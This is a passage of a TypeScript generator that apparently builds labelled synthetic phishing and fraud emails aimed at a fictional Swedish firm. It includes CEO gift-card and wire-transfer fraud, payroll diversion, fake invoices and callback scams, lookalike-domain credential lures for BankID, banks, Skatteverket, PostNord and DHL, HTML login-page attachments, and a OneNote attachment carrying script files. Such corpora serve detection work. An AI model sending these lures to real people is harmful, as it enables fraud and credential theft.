        'Please quote FOB prices, minimum quantities and delivery time. Our payment terms are 30% deposit and balance before shipping.',
        `Best regards,\n${from.name}\nPurchasing Department\n${company}`,
      ],
    }),
  };
});

const remittanceOne = T('onenote-attachment', 'remittance-onenote', (r) => {
  const h = hacked(r);
  const amt = amount(r, 8000, 180000);
  const file = pick(r, ['Remittance_Advice.one', `Payment_${digits(r, 6)}.one`, 'Betalningsavisering.one']);
  return {
    from: { name: pick(r, [`${h.org} Accounts`, h.org, 'Accounts Payable']), address: h.address },
    to: pick(r, [BOX.finance, addr(CFO), addr(CONTROLLER), BOX.ap]),
    subject: pick(r, [
      'Remittance advice',
      `Payment confirmation ${money(amt, 'SEK', 'en')}`,
      'Betalningsavisering',
      `Payment sent – ref ${digits(r, 8)}`,
    ]),
    auth: PASS,
    via: 'm365',
    lang: 'en',
    attachments: [
      {
        filename: file,
        type: 'application/onenote',
        content: oneNote(pick(r, ['Open.cmd', 'invoice.hta', 'view.wsf', 'Payment.bat'])),
      },
    ],
    ...letter({
      style: 'outlook',
      parts: parts(r, 0.3, 0.2),
      lang: 'en',
      blocks: [
        'Hello,',
        `Please find attached the remittance advice for the payment of ${money(amt, 'SEK', 'en')} made to your account today.`,
        'Double-click "View document" inside the file to see the payment details.',
        `Regards,\nAccounts Payable\n${h.org}`,
      ],
    }),
  };
});

const directoryInvoice = T('directory-invoice', 'company-register-invoice', (r) => {
  const reg = pick(r, [
    'Bolags- och Företagsregistret',
    'Svenska Näringslivsregistret',
    'Nordiskt Företagsindex',
    'Företagsregistret Sverige',
  ]);
  const dom = pick(r, [
    'foretagsregistret-se.com',
    'naringslivsregistret.eu',
    'nordiskt-foretagsindex.com',
    'bolagsregister-sverige.net',
  ]);
  const amt = pick(r, [4850, 6990, 8450, 9975]);
  const ocr = digits(r, 14);
  const bg = `${digits(r, 4)}-${digits(r, 4)}`;
  const pdf = onePagePdf([
    reg,
    `Faktura / Registreringsavgift ${int(r, 2025, 2026)}`,
    `${COMPANY}, org.nr ${ORG.orgNo}`,
    `Registrering i företagsregister, 12 mån: ${money(amt, 'SEK', 'sv')} exkl. moms`,
    `Bankgiro ${bg}   OCR ${ocr}`,
    'Betalningsvillkor: 10 dagar',
  ]);
  return {
    from: { name: reg, address: `faktura@${dom}` },
    to: pick(r, [BOX.ap, BOX.info, addr(AP)]),
    subject: pick(r, [
      `Faktura registreringsavgift ${ORG.orgNo}`,
      `Registrering ${COMPANY} – faktura`,
      'Årsavgift företagsregister',
    ]),
    auth: registered(r),
    via: 'direct',
    lang: 'sv',
    attachments: [{ filename: `Faktura_${ocr.slice(0, 8)}.pdf`, type: 'application/pdf', content: pdf }],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      blocks: [
        `Till ${COMPANY}`,
        `Bifogat översänds faktura avseende registrering av ert företag i ${reg} för perioden ${int(r, 2025, 2026)}/${int(r, 2026, 2027)}.`,
        `Att betala: **${money(amt * 1.25, 'SEK', 'sv')}** inkl. moms till bankgiro ${bg}, OCR ${ocr}.`,
        {
          small:
            'Registreringen är ett erbjudande. Genom betalning accepterar ni villkoren på vår webbplats. Registret är inte knutet till någon myndighet.',
        },
        `Med vänlig hälsning\n${reg}\nKundtjänst`,
      ],
    }),
  };
});

const callbackSubscription = T('callback-subscription', 'antivirus-renewal-callback', (r) => {
  const lang: Lang = pick(r, ['en', 'sv']);
  const brand = pick(r, [
    'Norton 360',
    'McAfee Total Protection',
    'Geek Squad',
    'PayPal',
    'Microsoft 365 Family',
  ]);
  const amt = pick(r, [4299, 3899, 5149, 2999]);
  const tel = pick(r, ['+46 8 502 55 913', '+46 10 199 40 27', '+44 20 3890 4421', '+46 77 178 20 31']);
  const id = `INV${digits(r, 9)}`;
  const from: Addr = {
    name: pick(r, [`${brand} Billing`, 'Order Support', 'Billing Department', brand]),
    address: freemail(r, pick(r, ['billing.dept', 'invoice.support', 'order.confirmation', 'renewal.team'])),
  };
  const withPdf = chance(r, 0.5);
  const blocks: Block[] =
    lang === 'en'
      ? [
          'Dear Customer,',
          `Thank you for renewing your ${brand} subscription. Your payment of **${money(amt, 'SEK', 'en')}** has been processed and will appear on your statement within 24 hours.`,
          {
            rows: [
              ['Invoice', id],
              ['Product', `${brand} – 3 devices, 1 year`],
              ['Amount', money(amt, 'SEK', 'en')],
              ['Payment', 'Auto-debit'],
            ],
          },
          `If you did not authorise this renewal or wish to cancel and receive a refund, call our billing desk on **${tel}** within 24 hours.`,
          'Regards,\nBilling Department',
        ]
      : [
          'Hej,',
          `Tack för att du förnyat ${brand}. Beloppet **${money(amt, 'SEK', 'sv')}** dras från ditt konto inom 24 timmar.`,
          {
            rows: [
              ['Fakturanummer', id],
              ['Produkt', `${brand}, 1 år`],
              ['Belopp', money(amt, 'SEK', 'sv')],
            ],
          },
          `Har du inte beställt förnyelsen? Ring oss på **${tel}** för att avbryta och få pengarna tillbaka.`,
          'Med vänlig hälsning\nKundtjänst',
        ];
  return {
    from,
    to: addr(pick(r, PEOPLE)),
    subject:
      lang === 'en'
        ? pick(r, [`Your order ${id} is confirmed`, 'Subscription renewed successfully', `Invoice ${id}`])
        : pick(r, [`Din order ${id} är bekräftad`, 'Prenumeration förnyad', `Kvitto ${id}`]),
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang,
    attachments: withPdf
      ? [
          {
            filename: `${id}.pdf`,
            type: 'application/pdf',
            content: onePagePdf([
              `${brand} – Invoice ${id}`,
              `Amount: ${money(amt, 'SEK', 'en')}`,
              `To cancel, call ${tel}`,
            ]),
          },
        ]
      : undefined,
    ...letter({ style: 'plain', parts: withPdf ? 'text' : parts(r, 0.3, 0.3), blocks }),
  };
});

const ceoGiftCards = T('gift-card-bec', 'ceo-gift-cards', (r) => {
  const target = pick(r, [CS_SV, MARKETING, HR, LOGISTICS, AP, INFLUENCER, WAREHOUSE]);
  const free = freemail(
    r,
    pick(r, ['karin.lindqvist', 'k.lindqvist.vd', 'karinlindqvist', 'lindqvist.karin']),
  );
  const look = `karin.lindqvist@${pick(r, ['corp-example.com', 'corpexample.se', 'corp.example-se.com'])}`;
  const from: Addr = { name: full(CEO), address: chance(r, 0.7) ? free : look };
  const card = pick(r, [
    'Apple-presentkort',
    'Google Play-kort',
    'Steam-kort',
    'presentkort från Elgiganten',
  ]);
  const variant = r.below(3);
  const text =
    variant === 0
      ? [
          `Hej ${target.first},`,
          'Är du upptagen? Jag sitter i möte hela eftermiddagen och behöver hjälp med en sak som är lite bråttom. Svara här så förklarar jag.',
          `/Karin\n\nSkickat från min iPhone`,
        ]
      : variant === 1
        ? [
            `Hej ${target.first},`,
            `Jag vill överraska några av våra bästa kunder och samarbetspartners med ${card} innan helgen. Kan du köpa ${pick(r, ['5', '8', '10'])} st à ${pick(r, ['500', '1 000', '1 500'])} kr? Skrapa fram koderna och skicka bilder på dem till mig här.`,
            'Du får tillbaka pengarna via utlägg. Håll det mellan oss så länge, det ska vara en överraskning.',
            'Tack!\nKarin',
          ]
        : [
            `Hi ${target.first},`,
            `I need you to pick up some ${pick(r, ['Apple gift cards', 'Google Play cards', 'Amazon gift cards'])} for a client appreciation. Can you handle it right now? I'm in a board meeting and can't take calls.`,
            'Let me know how quickly you can get them.\n\nKarin Lindqvist\nCEO, Fjällspår AB\nSent from my iPhone',
          ];
  return {
    from,
    to: addr(target),
    subject: pick(r, ['Hej', 'Snabb fråga', 'Är du ledig?', 'Brådskande', 'Request', '', 'Uppdrag']) || ' ',
    auth: from.address === free ? PASS : registered(r),
    via: from.address.endsWith('gmail.com')
      ? 'gmail'
      : from.address.includes('outlook') || from.address.includes('hotmail')
        ? 'outlook-consumer'
        : 'direct',
    replyTo: chance(r, 0.25) ? { name: full(CEO), address: freemail(r, 'ceo.office') } : undefined,
    lang: variant === 2 ? 'en' : 'sv',
    ...letter({ style: chance(r, 0.5) ? 'apple' : 'plain', parts: parts(r, 0.2, 0.5), blocks: text }),
  };
});

const ceoTransfer = T('ceo-wire-fraud', 'ceo-confidential-transfer', (r) => {
  const target = pick(r, FINANCE);
  const lookDomain = pick(r, [
    'corp-example.com',
    'corpexample.com',
    'corp.example-mail.com',
    'c0rp.example.com',
    'corp-exarnple.com',
  ]);
  const free = chance(r, 0.35);
  const from: Addr = {
    name: full(CEO),
    address: free ? freemail(r, 'karin.lindqvist') : `karin.lindqvist@${lookDomain}`,
  };
  const amt = pick(r, [148500, 287000, 96400, 412750, 63900]);
  const cur = pick(r, ['EUR', 'SEK']);
  const lang: Lang = pick(r, ['sv', 'sv', 'en']);
  const lawyer =
    lang === 'sv'
      ? pick(r, [
          'advokat Henrik Sandell på Advokatfirman Sandell & Co',
          'vår jurist Felix Braun på Braun Rechtsanwälte',
          'vår rådgivare på Nordvik Corporate Finance',
        ])
      : pick(r, [
          'Dr. Felix Braun, Braun Rechtsanwälte',
          'our lawyer at Sandell & Co',
          'our advisers at Nordvik Corporate Finance',
        ]);
  const blocks: Block[] =
    lang === 'sv'
      ? [
          `Hej ${target.first},`,
          `Vi håller på att slutföra ett förvärv av en norsk konkurrent och jag behöver att du gör en överföring på ${money(amt, cur, 'sv')} idag. Detta är strikt konfidentiellt tills affären är offentlig – prata inte med någon annan om det, inte heller med ${CFO.first === target.first ? 'styrelsen' : CFO.first}.`,
          `${lawyer[0].toUpperCase()}${lawyer.slice(1)} kommer att kontakta dig med betalningsuppgifterna. Bekräfta bara här att du har möjlighet att genomföra den före kl. 14.`,
          'Jag sitter i möten och kan inte ta samtal, så mejla mig.\n\nKarin',
        ]
      : [
          `${target.first},`,
          `I need you to process an urgent payment of ${money(amt, cur, 'en')} today for a confidential acquisition. Please keep this between us until the announcement next week.`,
          `The beneficiary details will come from ${lawyer}. Reply to confirm you're available and I'll forward them.`,
          'I am travelling and can only answer by email.\n\nKarin Lindqvist\nCEO',
        ];
  return {
    from,
    to: addr(target),
    replyTo: chance(r, 0.3) ? { name: full(CEO), address: freemail(r, 'k.lindqvist') } : undefined,
    subject:
      lang === 'sv'
        ? pick(r, [
            'Konfidentiellt',
            'Brådskande betalning',
            'Förvärv – strikt konfidentiellt',
            'Överföring idag',
          ])
        : pick(r, ['Confidential', 'Urgent payment', 'Project Nordkapp – confidential']),
    auth: free ? PASS : registered(r),
    via: free ? 'gmail' : pick(r, ['vps', 'm365'] as const),
    headers: chance(r, 0.3)
      ? [
          ['X-Priority', '1 (Highest)'],
          ['Importance', 'High'],
        ]
      : undefined,
    lang,
    ...letter({ style: chance(r, 0.5) ? 'outlook' : 'plain', parts: parts(r, 0.2, 0.4), lang, blocks }),
  };
});

const becFirstContact = T('bec-first-contact', 'ceo-text-me', (r) => {
  const target = pick(r, [AP, CONTROLLER, HR, MARKETING, ECOM, LOGISTICS]);
  const from: Addr = {
    name: pick(r, [full(CEO), 'Karin Lindqvist VD', 'Karin L.']),
    address: freemail(r, pick(r, ['karin.lindqvist.fjallspar', 'k.lindqvist', 'ceo.fjallspar'])),
  };
  const lines = pick(r, [
    [
      `Hej ${target.first}, har du ditt mobilnummer? Jag behöver att du hjälper mig med en sak, smsa mig. Jag kan inte prata just nu.`,
      '/Karin',
    ],
    [
      `${target.first}, är du vid datorn? Skicka ditt nummer så skickar jag ett sms.`,
      'Skickat från min iPhone',
    ],
    [`Hi ${target.first}, are you available? I need a quick favour. Text me your WhatsApp number.`, 'Karin'],
  ]);
  return {
    from,
    to: addr(target),
    subject: pick(r, ['Hej', 'Mobilnummer', 'Snabbt', 'Är du där?', 'Quick favour']),
    auth: PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang: 'sv',
    ...letter({ style: 'plain', parts: 'text', blocks: lines }),
  };
});

const payrollDiversion = T('payroll-diversion', 'salary-account-change', (r) => {
  const who = pick(r, [LOGISTICS, ECOM, MARKETING, CS_SV, WAREHOUSE, CONTROLLER, INFLUENCER]);
  const from: Addr = {
    name: full(who),
    address: freemail(
      r,
      `${who.first.toLowerCase()}.${who.last.toLowerCase().replace(/[öå]/g, 'o').replace('ä', 'a')}`,
    ),
  };
  const bank = pick(r, ['Swedbank', 'SEB', 'Nordea', 'Länsförsäkringar Bank', 'Revolut']);
  const withAcct = chance(r, 0.5);
  const lang: Lang = chance(r, 0.8) ? 'sv' : 'en';
  const blocks: Block[] =
    lang === 'sv'
      ? [
          'Hej,',
          `Jag har bytt bank till ${bank} och vill att lönen betalas in på mitt nya konto från och med nästa utbetalning.`,
          withAcct
            ? `Clearingnummer: ${digits(r, 4)}\nKontonummer: ${digits(r, 10)}`
            : 'Vilka uppgifter behöver ni från mig? Jag kan skicka dem direkt.',
          `Jag skriver från min privata mejl eftersom jag inte kommer åt Outlook hemifrån.\n\nTack!\n${who.first}`,
        ]
      : [
          'Hi,',
          `I've recently changed banks and would like my salary paid into my new ${bank} account from the next payroll.`,
          withAcct
            ? `IBAN: SE${digits(r, 2)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)}`
            : 'What details do you need from me?',
          `Thanks,\n${who.first}`,
        ];
  return {
    from,
    to: pick(r, [addr(HR), BOX.hr, addr(CONTROLLER)]),
    subject:
      lang === 'sv'
        ? pick(r, ['Nytt lönekonto', 'Byte av bankkonto', 'Ändring kontonummer lön'])
        : pick(r, ['Change of bank details', 'Salary account update']),
    auth: PASS,
    via: from.address.endsWith('gmail.com')
      ? 'gmail'
      : from.address.includes('outlook') || from.address.includes('hotmail')
        ? 'outlook-consumer'
        : 'direct',
    lang,
    ...letter({ style: 'plain', parts: parts(r, 0.2, 0.5), blocks }),
  };
});

const vismaPayslip = T('payroll-portal', 'visma-payslip', (r) => {
  const d = randomDate(r);
  const to = addr(pick(r, SWEDES));
  const look = pick(r, [
    lookalike(r, 'visma', ['lon', 'payslip', 'anstalld', 'portal'], ['com', 'net', 'online', 'site']),
    'vismaonline-lon.com',
  ]);
  return brandPhish(r, {
    brand: 'Visma',
    color: '#dd3a1f',
    lang: 'sv',
    to,
    real: 'visma.com',
    look,
    names: ['Visma Lön', 'Visma', 'Fjällspår Lön via Visma'],
    locals: ['noreply', 'lon', 'payroll'],
    subject: pick(r, [
      `Din lönespecifikation för ${monthName(d, 'sv')} finns tillgänglig`,
      'Ny lönespecifikation',
      'Viktigt: verifiera ditt konto för att se lönebeskedet',
      `Retroaktiv lönejustering ${d.getUTCFullYear()}`,
    ]),
    date: d,
    blocks: [
      `Hej ${to.name?.split(' ')[0]},`,
      pick(r, [
        `Din lönespecifikation för ${monthName(d, 'sv')} har publicerats. Logga in för att ta del av den.`,
        `Efter årets lönerevision finns en retroaktiv justering att granska och godkänna senast ${day(addDays(d, 2), 'sv')}.`,
      ]),
      {
        button: {
          label: pick(r, ['Visa lönespecifikation', 'Logga in', 'Granska justering']),
          href: landing(r, look, 'visma-lon', `payslip/${uuid(r)}`),
        },
      },
      'Detta meddelande skickas automatiskt och går inte att besvara.',
    ],
    modes: { look: 6, hacked: 3, spoof: 1 },
  });
});

// ---------------------------------------------------------------------------------------------------------
// Banks, BankID, Swish

const bankIdRenewal = T('bankid-renewal', 'bankid-expiry', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'bankid',
      ['forny', 'sakerhet', 'se', 'uppdatering', 'support'],
      ['com', 'net', 'online', 'site', 'info'],
    ),
    'mobilt-bankid-se.com',
  ]);
  const d = randomDate(r);
  return brandPhish(r, {
    brand: 'BankID',
    color: '#193e4f',
    lang: 'sv',
    to: addr(pick(r, SWEDES)),
    real: pick(r, ['bankid.com', 'handelsbanken.se', 'seb.se']),
    look,
    names: ['BankID', 'BankID Säkerhetscenter', 'Mobilt BankID', 'Din bank'],
    locals: ['noreply', 'info', 'sakerhet'],
    subject: pick(r, [
      'Ditt BankID upphör att gälla',
      'Förnya ditt BankID idag',
      'Åtgärd krävs: ditt Mobilt BankID har spärrats',
      `Ditt BankID går ut ${day(addDays(d, 2), 'sv')}`,
    ]),
    date: d,
    blocks: [
      'Hej,',
      pick(r, [
        `Ditt BankID går ut den ${day(addDays(d, 2), 'sv')}. För att fortsätta använda tjänster som kräver legitimering behöver du förnya det.`,
        'Vi har upptäckt inloggningsförsök från en okänd enhet och har därför spärrat ditt Mobilt BankID tillfälligt.',
        'På grund av nya säkerhetskrav från Finansinspektionen måste alla användare verifiera sitt BankID senast i morgon.',
      ]),
      {
        button: {
          label: pick(r, ['Förnya BankID', 'Verifiera nu', 'Aktivera igen']),
          href: landing(r, look, 'bankid', `fornya?id=${token(r, 10)}`),
        },
      },
      'Förnyelsen tar cirka två minuter. Ha ditt kort och din kortläsare eller dina bankkoder till hands.',
      'Med vänliga hälsningar\nBankID-support',
    ],
    modes: { look: 5, hacked: 3, spoof: 1, free: 1 },
  });
});

const bankIdQr = T('bankid-qr-relay', 'bankid-qr-image', async (r) => {
  const look = lookalike(r, 'bankid', ['verify', 'qr', 'signering', 'auth'], ['com', 'net', 'online']);
  const url = `https://${look}/s/${urlsafe(r, 12)}`;
  const asJpeg = chance(r, 0.4);
  const img = asJpeg ? await qrJpeg(url) : await qrPng(url);
  const cid = `qr${hex(r, 8)}@${look}`;
  const bank = pick(r, ['Handelsbanken', 'SEB', 'Nordea', 'Swedbank']);
  const m = brandPhish(r, {
    brand: bank,
    color: '#004b8d',
    lang: 'sv',
    to: addr(pick(r, FINANCE)),
    real: pick(r, ['handelsbanken.se', 'seb.se', 'nordea.se']),
    look,
    names: [`${bank} Företag`, `${bank} Säkerhet`, bank],
    locals: ['noreply', 'sakerhet', 'foretag'],
    subject: pick(r, [
      'Bekräfta ny betalningsmottagare med Mobilt BankID',
      'Säkerhetskontroll: skanna QR-koden',
      `${bank}: Godkänn inloggning från ny enhet`,
    ]),
    blocks: [
      'Hej,',
      'En ny betalningsmottagare har lagts till i ert företagskonto. Om ändringen är korrekt behöver den godkännas med Mobilt BankID.',
      'Öppna BankID-appen och skanna QR-koden nedan för att godkänna. Om du inte godkänner inom 30 minuter spärras kontot av säkerhetsskäl.',
      { img: { cid, alt: 'QR-kod för BankID', width: 200 } },
      `Med vänliga hälsningar\n${bank} Företagsservice`,
    ],
    modes: { look: 5, hacked: 3, spoof: 2 },
  });
  return {
    ...m,
    attachments: [
      {
        filename: asJpeg ? 'qr.jpg' : 'qr.png',
        type: asJpeg ? 'image/jpeg' : 'image/png',
        content: img,
        cid,
      },
    ],
  };
});

const bankCredential = T('bank-credential', 'business-bank-login', (r) => {
  const bank = pick(r, [
    { name: 'Handelsbanken', real: 'handelsbanken.se', color: '#005eb8', stem: 'handelsbanken' },
    { name: 'SEB', real: 'seb.se', color: '#60cd18', stem: 'seb' },
    { name: 'Nordea', real: 'nordea.se', color: '#0000a0', stem: 'nordea' },
  ]);
  const look = lookalike(
    r,
    bank.stem,
    ['foretag', 'kund', 'sakerhet', 'login', 'verifiering'],
    ['com', 'net', 'online', 'info', 'se.net'],
  );
  return brandPhish(r, {
    brand: bank.name,
    color: bank.color,
    lang: 'sv',
    to: addr(pick(r, FINANCE)),
    real: bank.real,
    look,
    names: [`${bank.name} Företag`, bank.name, `${bank.name} Kundservice`],
    locals: ['noreply', 'info', 'kundservice', 'foretag'],
    subject: pick(r, [
      'Viktigt meddelande om ert företagskonto',
      'Verifiera dina uppgifter – kundkännedom',
      'Ert konto har begränsats tillfälligt',
      'Uppdatering av kundkännedom (KYC) krävs',
    ]),
    blocks: [
      'Bästa kund,',
      pick(r, [
        'Enligt lagen om åtgärder mot penningtvätt behöver vi regelbundet uppdatera kundkännedomen för våra företagskunder. Era uppgifter är inte längre aktuella.',
        'Vi har noterat ovanliga transaktioner på ert företagskonto och har därför begränsat möjligheten att göra utlandsbetalningar.',
      ]),
      `Logga in och besvara frågorna senast inom ${pick(r, ['48 timmar', '3 bankdagar', '24 timmar'])} för att undvika att kontot spärras.`,
      {
        button: {
          label: pick(r, ['Logga in', 'Uppdatera uppgifter', 'Till Internetbanken Företag']),
          href: landing(r, look, `${bank.stem}-foretag`, `kyc/login?sid=${hex(r, 16)}`),
        },
      },
      `Med vänlig hälsning\n${bank.name}`,
    ],
  });
});

const swishRefund = T('swish-refund', 'swish-aterbetalning', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'swish',
      ['aterbetalning', 'retur', 'foretag', 'betalning'],
      ['com', 'net', 'online', 'site'],
    ),
    'getswish-se.com',
  ]);
  const amt = amount(r, 450, 6800, false);
  return brandPhish(r, {
    brand: 'Swish',
    color: '#ee2f6d',
    lang: 'sv',
    to: addr(pick(r, SWEDES)),
    real: 'getswish.se',
    look,
    names: ['Swish', 'Swish Företag', 'Swish Kundservice'],
    locals: ['noreply', 'info', 'aterbetalning'],
    subject: pick(r, [
      `Du har en återbetalning på ${money(amt, 'SEK', 'sv')} att hämta`,
      'Swish: betalning kunde inte genomföras',
      'Ditt Swish Företag-avtal behöver förnyas',
    ]),
    blocks: [
      'Hej!',
      pick(r, [
        `En återbetalning på **${money(amt, 'SEK', 'sv')}** väntar på dig. För att ta emot pengarna behöver du bekräfta med BankID inom 24 timmar.`,
        'Ert avtal för Swish Företag löper ut. För att fortsätta ta emot betalningar i butik och webbshop måste avtalet förnyas med BankID.',
      ]),
      {
        button: {
          label: pick(r, ['Ta emot pengarna', 'Förnya avtal', 'Bekräfta med BankID']),
          href: landing(r, look, 'swish', `r/${token(r, 10)}`),
        },
      },
      'Vänliga hälsningar\nSwish',
    ],
    modes: { look: 5, hacked: 3, free: 2 },
  });
});

// ---------------------------------------------------------------------------------------------------------
// Authorities, fines, parcels

const skatteverketRefund = T('tax-refund', 'skatteverket-refund', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'skatteverket',
      ['aterbaring', 'e-tjanst', 'mina-sidor', 'se'],
      ['com', 'net', 'online', 'info'],
    ),
    'skatteverket-se.info',
  ]);
  const amt = amount(r, 1800, 14500, false);
  return brandPhish(r, {
    brand: 'Skatteverket',
    color: '#104b8d',
    lang: 'sv',
    to: addr(pick(r, SWEDES)),
    real: 'skatteverket.se',
    look,
    names: ['Skatteverket', 'Skatteverket Mina sidor', 'Skatteverket – Återbetalning'],
    locals: ['noreply', 'information', 'aterbetalning'],
    subject: pick(r, [
      'Du har rätt till skatteåterbäring',
      `Skatteåterbäring ${money(amt, 'SEK', 'sv')} – bekräfta ditt konto`,
      'Meddelande från Skatteverket: slutskattebesked',
    ]),
    blocks: [
      'Hej,',
      `Efter den senaste beräkningen av din slutliga skatt har du rätt till en återbetalning på **${money(amt, 'SEK', 'sv')}**. Vi har inte något registrerat konto för utbetalning.`,
      'Logga in med BankID och ange kontouppgifter senast inom 5 dagar, annars betalas beloppet ut via avi som tar upp till 8 veckor.',
      {
        button: {
          label: pick(r, ['Logga in på Mina sidor', 'Ange konto', 'Begär utbetalning']),
          href: landing(r, look, 'skv', `mina-sidor/aterbetalning?ref=${digits(r, 8)}`),
        },
      },
      'Med vänliga hälsningar\nSkatteverket',
    ],
    footer: ['Skatteverket, 171 94 Solna'],
    modes: { look: 5, hacked: 3, spoof: 2 },
  });
});

const kronofogden = T('enforcement-notice', 'kronofogden-pdf', (r) => {
  const d = randomDate(r);
  const mal = `${digits(r, 2)}-${digits(r, 6)}-${d.getUTCFullYear() % 100}`;
  const amt = amount(r, 8000, 92000);
  const link = pick(r, [
    `https://${lookalike(r, 'kronofogden', ['e-tjanst', 'arende', 'mal'], ['com', 'net', 'online'])}/mal/${mal}`,
    `${freeHost(r, 'kfm-arende')}${mal}`,
    `https://${pick(r, ['docs.google.com/forms/d/e/1FAIpQL', 'form.jotform.com/'])}${urlsafe(r, 30)}`,
  ]);
  const pdf = onePagePdf(
    [
      'KRONOFOGDEN – Betalningsföreläggande',
      `Målnummer: ${mal}`,
      `Svarande: ${COMPANY}, ${ORG.orgNo}`,
      `Sökande: ${pick(r, ['Intrum Sverige AB', 'Lowell Sverige AB', 'Svea Inkasso AB'])}`,
      `Fordran: ${money(amt, 'SEK', 'sv')}`,
      `Sista dag att bestrida: ${day(addDays(d, 10), 'sv', true)}`,
      'Bestrid eller se underlag i e-tjänsten:',
      'Öppna målet i e-tjänsten',
    ],
    { link },
  );
  const from: Addr = pick(r, [
    {
      name: 'Kronofogden',
      address: `noreply@${lookalike(r, 'kronofogden', ['delgivning', 'mal', 'myndighet'], ['com', 'net', 'org'])}`,
    },
    { name: 'Kronofogden Delgivning', address: hacked(r).address },
  ]);
  return {
    from,
    to: pick(r, [BOX.info, addr(CFO), BOX.finance, addr(CEO)]),
    subject: pick(r, [
      `Betalningsföreläggande mål nr ${mal}`,
      `Delgivning: ansökan om betalningsföreläggande ${mal}`,
      'Meddelande från Kronofogden – svar krävs',
    ]),
    date: d,
    auth: from.address.includes('kronofogden') ? registered(r) : PASS,
    via: 'direct',
    lang: 'sv',
    attachments: [{ filename: `Delgivning_${mal}.pdf`, type: 'application/pdf', content: pdf }],
    ...letter({
      style: 'plain',
      parts: parts(r, 0.2, 0.5),
      blocks: [
        `Till ${COMPANY}`,
        `Kronofogden har tagit emot en ansökan om betalningsföreläggande mot er. Se bifogad delgivning för mål ${mal}.`,
        `Om ni inte bestrider senast ${day(addDays(d, 10), 'sv')} kan Kronofogden meddela utslag och ärendet registreras som en betalningsanmärkning.`,
        'Detta meddelande kan inte besvaras.\nKronofogden',
      ],
    }),
  };
});

const congestionTax = T('road-toll-fine', 'trangselskatt-unpaid', (r) => {
  const reg = `${upper(r, 3).replace(/[0-9]/g, 'K')} ${digits(r, 2)}${pick(r, ['A', 'B', 'C', 'D', '0', '1'])}`;
  const amt = pick(r, [45, 90, 135, 182, 500]);
  const look = lookalike(
    r,
    'transportstyrelsen',
    ['betala', 'trangselskatt', 'avgift'],
    ['com', 'net', 'online', 'info'],
  );
  return brandPhish(r, {
    brand: 'Transportstyrelsen',
    color: '#004a87',
    lang: 'sv',
    to: pick(r, [addr(LOGISTICS), addr(WAREHOUSE), addr(AP), BOX.finance]),
    real: 'transportstyrelsen.se',
    look,
    names: ['Transportstyrelsen', 'Trängselskatt Göteborg', 'Transportstyrelsen Vägtrafik'],
    locals: ['noreply', 'trangselskatt', 'info'],
    subject: pick(r, [
      `Obetald trängselskatt – fordon ${reg}`,
      'Påminnelse: trängselskatt Göteborg',
      `Tilläggsavgift ${money(500, 'SEK', 'sv')} – betala i dag`,
    ]),
    blocks: [
      'Hej,',
      `Vi har inte mottagit betalning för trängselskatt för fordon **${reg}** (passager i Göteborg ${day(randomDate(r), 'sv', true)}). Belopp att betala: ${money(amt, 'SEK', 'sv')}.`,
      'Om betalning inte sker i dag påförs en tilläggsavgift på 500 kr och fordonet kan få körförbud.',
      {
        button: {
          label: pick(r, ['Betala nu', 'Se passager', 'Betala med kort']),
          href: landing(r, look, 'ts-betala', `betala?reg=${reg.replace(' ', '')}`),
        },
      },
      'Transportstyrelsen',
    ],
    modes: { look: 6, hacked: 2, free: 2 },
  });
});

const postnordFee = T('parcel-fee', 'postnord-customs-fee', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'postnord',
      ['tull', 'avgift', 'leverans', 'paket', 'se'],
      ['com', 'net', 'online', 'info', 'top'],
    ),
    `postnord.se-${token(r, 5)}.${pick(r, ['xyz', 'top', 'cc'])}`,
  ]);
  const id = `${upper(r, 2)}${digits(r, 9)}SE`;
  const fee = pick(r, [19, 29, 34.5, 49, 12.9]);
  return brandPhish(r, {
    brand: 'PostNord',
    color: '#00a0d6',
    lang: 'sv',
    to: addr(
      pick(
        r,
        PEOPLE.filter((p) => p.lang === 'sv'),
      ),
    ),
    real: 'postnord.se',
    look,
    names: ['PostNord', 'PostNord Sverige', 'PostNord Kundservice'],
    locals: ['noreply', 'avisering', 'info'],
    subject: pick(r, [
      `Ditt paket ${id} väntar på betalning`,
      'PostNord: Leveransen har pausats',
      `Tullavgift för försändelse ${id}`,
      'Vi kunde inte leverera ditt paket',
    ]),
    blocks: [
      'Hej,',
      pick(r, [
        `Ditt paket med nummer **${id}** har anlänt till vår terminal men kan inte levereras förrän en avgift på ${money(fee, 'SEK', 'sv')} (tull och hantering) har betalats.`,
        `Vi har försökt leverera ditt paket ${id} men adressen var ofullständig. Bekräfta adressen och betala ombokningsavgiften på ${money(fee, 'SEK', 'sv')}.`,
      ]),
      'Om avgiften inte betalas inom 48 timmar returneras paketet till avsändaren.',
      {
        button: {
          label: pick(r, ['Betala och boka leverans', 'Spåra paket', 'Bekräfta adress']),
          href: landing(r, look, 'postnord', `spara/${id}`),
        },
      },
      'Vänliga hälsningar\nPostNord',
    ],
    modes: { look: 5, hacked: 3, free: 2 },
  });
});

const dhlDutyHtml = T('courier-duty-html', 'dhl-import-duty-html', (r) => {
  const awb = digits(r, 10);
  const to = pick(r, [addr(LOGISTICS), addr(WAREHOUSE), addr(AP), BOX.warehouse]);
  const look = lookalike(
    r,
    'dhl',
    ['express-duty', 'customs', 'ezycharge', 'invoice'],
    ['com', 'net', 'online'],
  );
  const file = pick(r, [`DHL_Invoice_${awb}.html`, `AWB_${awb}_Duty.htm`, 'Shipping_Documents.html']);
  const content = chance(r, 0.5)
    ? loginPage(
        r,
        'DHL Express – Sign in',
        to.address,
        `https://${look}/submit`,
        'Sign in with your email to view the shipment invoice',
      )
    : redirectPage(r, `https://${look}/track/${awb}`, to.address);
  return brandPhish(r, {
    brand: 'DHL Express',
    color: '#d40511',
    lang: 'en',
    to,
    real: 'dhl.com',
    look,
    names: ['DHL Express', 'DHL Customs Services', 'DHL Express Sweden'],
    locals: ['noreply', 'customs', 'express'],
    subject: pick(r, [
      `Shipment ${awb} on hold – import duties due`,
      `DHL Express: invoice for waybill ${awb}`,
      'Your shipment from China is awaiting customs clearance',
    ]),
    attachments: [htmlFile(file, content)],
    blocks: [
      'Dear customer,',
